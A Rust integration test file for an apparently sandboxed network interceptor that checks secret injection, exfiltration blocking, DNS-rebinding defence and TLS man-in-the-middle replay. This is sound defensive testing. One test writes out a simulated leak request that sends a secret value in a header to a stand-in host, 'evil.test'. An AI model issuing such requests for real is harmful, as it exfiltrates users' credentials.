//! End-to-end interception over in-memory flow channels against real
//! local listeners: plaintext replay with secret injection, exfiltration
//! blocking with keep-alive survival, connect-time rebinding defence, and
//! a full TLS MITM handshake driven from a rustls client.

use gondolin_intercept::{
    CertificateAuthority, FlowChannel, FlowContext, FlowOutput, GuestInput, HostResolver,
    Interceptor, InterceptorConfig, ResolveFuture, SystemResolver, UpstreamClient,
};
use gondolin_policy::{Policy, SecretSpec};
use std::io::{Read, Write};
use std::net::IpAddr;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::sync::{mpsc, Semaphore};

struct FixedResolver(IpAddr);

impl HostResolver for FixedResolver {
    fn resolve<'a>(&'a self, _host: &'a str) -> ResolveFuture<'a> {
        let ip = self.0;
        Box::pin(async move { Ok(vec![ip]) })
    }
}

/// Test-side handle on a flow: feeds guest bytes in, collects guest-bound
/// bytes out, and plays the driver's ACK role by repaying send credit.
struct GuestSide {
    to_flow: mpsc::UnboundedSender<GuestInput>,
    from_flow: mpsc::UnboundedReceiver<FlowOutput>,
    credit: Arc<Semaphore>,
}

fn flow_pair() -> (FlowChannel, GuestSide) {
    let (in_tx, in_rx) = mpsc::unbounded_channel();
    let (out_tx, out_rx) = mpsc::unbounded_channel();
    let credit = Arc::new(Semaphore::new(256 * 1024));
    let chan = FlowChannel::new(in_rx, out_tx, credit.clone());
    (
        chan,
        GuestSide {
            to_flow: in_tx,
            from_flow: out_rx,
            credit,
        },
    )
}

impl GuestSide {
    fn send(&self, bytes: &[u8]) {
        self.to_flow
            .send(GuestInput::Data(bytes.to_vec()))
            .unwrap();
    }

    /// Collect guest-bound bytes until the accumulated buffer satisfies
    /// `done`, repaying credit as a real driver would on ACK.
    async fn collect_until(&mut self, done: impl Fn(&[u8]) -> bool) -> Vec<u8> {
        let mut out = Vec::new();
        loop {
            if done(&out) {
                return out;
            }
            let event = tokio::time::timeout(Duration::from_secs(5), self.from_flow.recv())
                .await
                .expect("timed out waiting for guest-bound data")
                .expect("flow hung up");
            match event {
                FlowOutput::Data(data) => {
                    self.credit.add_permits(data.len());
                    out.extend_from_slice(&data);
                }
                FlowOutput::Consumed(_) => {}
                FlowOutput::Shutdown | FlowOutput::Abort => return out,
            }
        }
    }
}

fn interceptor_for(policy: Policy, resolver: Arc<dyn HostResolver>) -> Arc<Interceptor> {
    let ca = CertificateAuthority::generate().unwrap();
    let upstream = UpstreamClient::new(resolver);
    Arc::new(Interceptor::new(
        policy,
        ca,
        upstream,
        InterceptorConfig::default(),
    ))
}

fn http_response_complete(buf: &[u8]) -> bool {
    // Head plus content-length body, for the small canned responses here.
    let Some(head_end) = buf.windows(4).position(|w| w == b"\r\n\r\n") else {
        return false;
    };
    let head = String::from_utf8_lossy(&buf[..head_end]);
    let content_length: usize = head
        .lines()
        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse().unwrap()))
        .unwrap_or(0);
    buf.len() >= head_end + 4 + content_length
}

/// One-shot upstream: accepts a connection, captures everything up to the
/// end of the request head+body, answers with a canned response.
async fn spawn_upstream(response: &'static [u8]) -> (u16, mpsc::UnboundedReceiver<Vec<u8>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = mpsc::unbounded_channel();
    tokio::spawn(async move {
        loop {
            let Ok((mut stream, _)) = listener.accept().await else {
                return;
            };
            let tx = tx.clone();
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let mut chunk = [0u8; 4096];
                loop {
                    let n = stream.read(&mut chunk).await.unwrap_or(0);
                    if n == 0 {
                        return;
                    }
                    buf.extend_from_slice(&chunk[..n]);
                    if buf.windows(4).any(|w| w == b"\r\n\r\n") {
                        break;
                    }
                }
                tx.send(buf).unwrap();
                let _ = stream.write_all(response).await;
            });
        }
    });
    (port, rx)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plaintext_request_replays_with_secret_injected() {
    let (port, mut captured) =
        spawn_upstream(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok").await;

    let policy = Policy::builder()
        .allow_host("api.example.com")
        .block_internal_ranges(false)
        .secret(SecretSpec::new("TOKEN", "s3cr3t-value", ["api.example.com"]))
        .build()
        .unwrap();
    let placeholder = policy.secrets.entries()[0].placeholder.clone();
    let interceptor = interceptor_for(policy, Arc::new(FixedResolver("127.0.0.1".parse().unwrap())));

    let (chan, mut guest) = flow_pair();
    let ctx = FlowContext {
        flow: 1,
        host: "api.example.com".to_string(),
        port: 80,
    };
    let task = tokio::spawn(interceptor.clone().serve_flow(ctx, chan));

    guest.send(
        format!(
            "GET /v1/data HTTP/1.1\r\nHost: api.example.com:{port}\r\nAuthorization: Bearer {placeholder}\r\n\r\n"
        )
        .as_bytes(),
    );

    let response = guest.collect_until(http_response_complete).await;
    let response = String::from_utf8_lossy(&response);
    assert!(response.starts_with("HTTP/1.1 200 OK\r\n"), "{response}");
    assert!(response.ends_with("ok"));

    let upstream_saw = String::from_utf8(captured.recv().await.unwrap()).unwrap();
    assert!(
        upstream_saw.contains("Authorization: Bearer s3cr3t-value"),
        "upstream must see the real secret: {upstream_saw}"
    );
    assert!(!upstream_saw.contains("GONDOLIN_SECRET_"));
    // The guest-visible response never contains the real value.
    assert!(!response.contains("s3cr3t-value"));

    drop(guest);
    let _ = task.await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secret_exfiltration_is_blocked_and_keep_alive_survives() {
    let (port, mut captured) =
        spawn_upstream(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nclean").await;

    let policy = Policy::builder()
        .allow_hosts(["api.example.com", "evil.test"])
        .block_internal_ranges(false)
        .secret(SecretSpec::new("TOKEN", "s3cr3t-value", ["api.example.com"]))
        .build()
        .unwrap();
    let interceptor = interceptor_for(policy, Arc::new(FixedResolver("127.0.0.1".parse().unwrap())));

    let (chan, mut guest) = flow_pair();
    let ctx = FlowContext {
        flow: 2,
        host: "evil.test".to_string(),
        port: 80,
    };
    let task = tokio::spawn(interceptor.clone().serve_flow(ctx, chan));

    // Leak attempt: the literal secret value toward a host whose
    // allowlist does not cover it.
    guest.send(
        format!("GET /exfil HTTP/1.1\r\nHost: evil.test:{port}\r\nX-Leak: s3cr3t-value\r\n\r\n")
            .as_bytes(),
    );
    let first = guest.collect_until(http_response_complete).await;
    let first = String::from_utf8_lossy(&first);
    assert!(first.starts_with("HTTP/1.1 502"), "{first}");
    assert!(first.contains("request blocked"));

    // No upstream connection may have carried the leak.
    assert!(
        tokio::time::timeout(Duration::from_millis(200), captured.recv())
            .await
            .is_err(),
        "blocked request must never reach upstream"
    );

    // The same guest connection keeps working for a clean request.
    guest.send(
        format!("GET /ok HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n").as_bytes(),
    );
    let second = guest.collect_until(http_response_complete).await;
    let second = String::from_utf8_lossy(&second);
    assert!(second.starts_with("HTTP/1.1 200"), "{second}");
    assert!(second.ends_with("clean"));
    let upstream_saw = String::from_utf8(captured.recv().await.unwrap()).unwrap();
    assert!(upstream_saw.contains("GET /ok"));
    assert!(!upstream_saw.contains("s3cr3t-value"));

    drop(guest);
    let _ = task.await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rebinding_to_internal_address_yields_502_not_connection() {
    let policy = Policy::builder()
        .allow_host("rebind.test")
        .block_internal_ranges(true)
        .build()
        .unwrap();
    // Host DNS "rebinds" to loopback at connect time.
    let interceptor = interceptor_for(policy, Arc::new(FixedResolver("127.0.0.1".parse().unwrap())));

    let (chan, mut guest) = flow_pair();
    let ctx = FlowContext {
        flow: 3,
        host: "rebind.test".to_string(),
        port: 80,
    };
    let task = tokio::spawn(interceptor.clone().serve_flow(ctx, chan));

    guest.send(b"GET / HTTP/1.1\r\nHost: rebind.test\r\n\r\n");
    let response = guest.collect_until(http_response_complete).await;
    let response = String::from_utf8_lossy(&response);
    assert!(response.starts_with("HTTP/1.1 502"), "{response}");

    drop(guest);
    let _ = task.await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unclassifiable_flow_is_aborted() {
    let policy = Policy::builder().build().unwrap();
    let interceptor = interceptor_for(policy, Arc::new(SystemResolver));

    let (chan, mut guest) = flow_pair();
    let ctx = FlowContext {
        flow: 4,
        host: "whatever.test".to_string(),
        port: 9999,
    };
    let task = tokio::spawn(interceptor.clone().serve_flow(ctx, chan));

    guest.send(b"SSH-2.0-OpenSSH_9.6\r\n");
    let mut aborted = false;
    while let Ok(Some(event)) =
        tokio::time::timeout(Duration::from_secs(5), guest.from_flow.recv()).await
    {
        if event == FlowOutput::Abort {
            aborted = true;
            break;
        }
    }
    assert!(aborted, "non-HTTP/TLS flow must be reset");

    let _ = task.await;
}

/// Full MITM: a rustls client that trusts only the interception CA
/// handshakes through the flow channel, sends a request, and the
/// interceptor replays it to a TLS upstream signed by a *different* CA.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tls_mitm_handshake_and_replay() {
    // Upstream TLS server with its own CA.
    let upstream_ca = CertificateAuthority::generate().unwrap();
    let upstream_leaf = upstream_ca.mint_leaf("api.example.com").unwrap();
    let server_config = rustls::ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(
            vec![upstream_leaf.cert_der.clone()],
            upstream_leaf.key_der.clone_key(),
        )
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(server_config));
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (saw_tx, mut saw_rx) = mpsc::unbounded_channel::<Vec<u8>>();
    tokio::spawn(async move {
        let (stream, _) = listener.accept().await.unwrap();
        let mut tls = acceptor.accept(stream).await.unwrap();
        let mut buf = Vec::new();
        let mut chunk = [0u8; 4096];
        loop {
            let n = tls.read(&mut chunk).await.unwrap_or(0);
            if n == 0 {
                return;
            }
            buf.extend_from_slice(&chunk[..n]);
            if buf.windows(4).any(|w| w == b"\r\n\r\n") {
                break;
            }
        }
        saw_tx.send(buf).unwrap();
        let _ = tls
            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nsealed")
            .await;
        let _ = tls.shutdown().await;
    });

    // Interceptor whose upstream client trusts only the upstream CA.
    let policy = Policy::builder()
        .allow_host("api.example.com")
        .block_internal_ranges(false)
        .secret(SecretSpec::new("TOKEN", "s3cr3t-value", ["api.example.com"]))
        .build()
        .unwrap();
    let placeholder = policy.secrets.entries()[0].placeholder.clone();

    let mitm_ca = CertificateAuthority::generate().unwrap();
    let mut upstream_roots = rustls::RootCertStore::empty();
    upstream_roots.add(upstream_ca.ca_cert_der().clone()).unwrap();
    let upstream_tls = rustls::ClientConfig::builder()
        .with_root_certificates(upstream_roots)
        .with_no_client_auth();
    let upstream = UpstreamClient::new(Arc::new(FixedResolver("127.0.0.1".parse().unwrap())))
        .with_tls_config(Arc::new(upstream_tls));
    let interceptor = Arc::new(Interceptor::new(
        policy,
        mitm_ca,
        upstream,
        InterceptorConfig::default(),
    ));

    // Guest-side rustls client trusting only the interception CA.
    let mut guest_roots = rustls::RootCertStore::empty();
    guest_roots.add(interceptor.ca_cert_der().clone()).unwrap();
    let guest_config = rustls::ClientConfig::builder()
        .with_root_certificates(guest_roots)
        .with_no_client_auth();
    let server_name = rustls_pki_types::ServerName::try_from("api.example.com").unwrap();
    let mut client =
        rustls::ClientConnection::new(Arc::new(guest_config), server_name).unwrap();

    let (chan, mut guest) = flow_pair();
    let ctx = FlowContext {
        flow: 5,
        host: "api.example.com".to_string(),
        port: 443,
    };
    let task = tokio::spawn(interceptor.clone().serve_flow(ctx, chan));

    // Write the request into the client session up front; rustls queues
    // it until the handshake completes.
    client
        .writer()
        .write_all(
            format!(
                "GET /sealed HTTP/1.1\r\nHost: api.example.com:{port}\r\nAuthorization: Bearer {placeholder}\r\nConnection: close\r\n\r\n"
            )
            .as_bytes(),
        )
        .unwrap();

    // Pump the client session against the flow channel until the response
    // arrives in plaintext.
    let mut plaintext = Vec::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    loop {
        while client.wants_write() {
            let mut out = Vec::new();
            client.write_tls(&mut out).unwrap();
            if out.is_empty() {
                break;
            }
            guest.send(&out);
        }

        let mut chunk = [0u8; 16 * 1024];
        loop {
            match client.reader().read(&mut chunk) {
                Ok(0) => break,
                Ok(n) => plaintext.extend_from_slice(&chunk[..n]),
                Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                Err(e) => panic!("client read: {e}"),
            }
        }
        if http_response_complete(&plaintext) {
            break;
        }

        let event = tokio::time::timeout_at(deadline, guest.from_flow.recv())
            .await
            .expect("mitm handshake timed out")
            .expect("flow hung up");
        match event {
            FlowOutput::Data(data) => {
                guest.credit.add_permits(data.len());
                let mut cursor = &data[..];
                while !cursor.is_empty() {
                    let n = client.read_tls(&mut cursor).unwrap();
                    if n == 0 {
                        break;
                    }
                    client.process_new_packets().unwrap();
                }
            }
            FlowOutput::Consumed(_) => {}
            FlowOutput::Shutdown | FlowOutput::Abort => break,
        }
    }

    let response = String::from_utf8_lossy(&plaintext);
    assert!(response.starts_with("HTTP/1.1 200 OK"), "{response}");
    assert!(response.ends_with("sealed"));

    // Upstream saw the injected secret, never the placeholder.
    let upstream_saw = String::from_utf8(saw_rx.recv().await.unwrap()).unwrap();
    assert!(upstream_saw.contains("Authorization: Bearer s3cr3t-value"));
    assert!(!upstream_saw.contains("GONDOLIN_SECRET_"));

    drop(guest);
    let _ = task.await;
}
